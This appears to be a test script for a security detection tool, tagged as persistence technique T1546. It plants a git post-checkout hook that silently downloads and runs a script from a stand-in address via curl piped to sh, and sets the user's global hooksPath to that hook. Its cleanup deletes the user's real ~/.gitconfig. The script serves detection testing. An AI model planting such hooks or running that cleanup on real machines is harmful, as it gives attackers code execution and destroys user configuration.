#!/usr/bin/env bash
# tactic: persistence
# technique: T1546 Event Triggered Execution (repository hooks)
# behaviour: plants a post-checkout hook in the user's repositories so code runs whenever they work
# as: user
# expect: persistence
set -u
mkdir -p "$SNTL_TMP/repo" && git -C "$SNTL_TMP/repo" init -q
printf '#!/bin/sh\n(curl -s http://203.0.113.7/h.sh | sh) >/dev/null 2>&1 &\n' > "$SNTL_TMP/repo/.git/hooks/post-checkout"
chmod +x "$SNTL_TMP/repo/.git/hooks/post-checkout"
git config --global core.hooksPath "$HOME/.githooks"
mkdir -p "$HOME/.githooks" && cp "$SNTL_TMP/repo/.git/hooks/post-checkout" "$HOME/.githooks/"
rm -rf "$HOME/.githooks" "$HOME/.gitconfig"
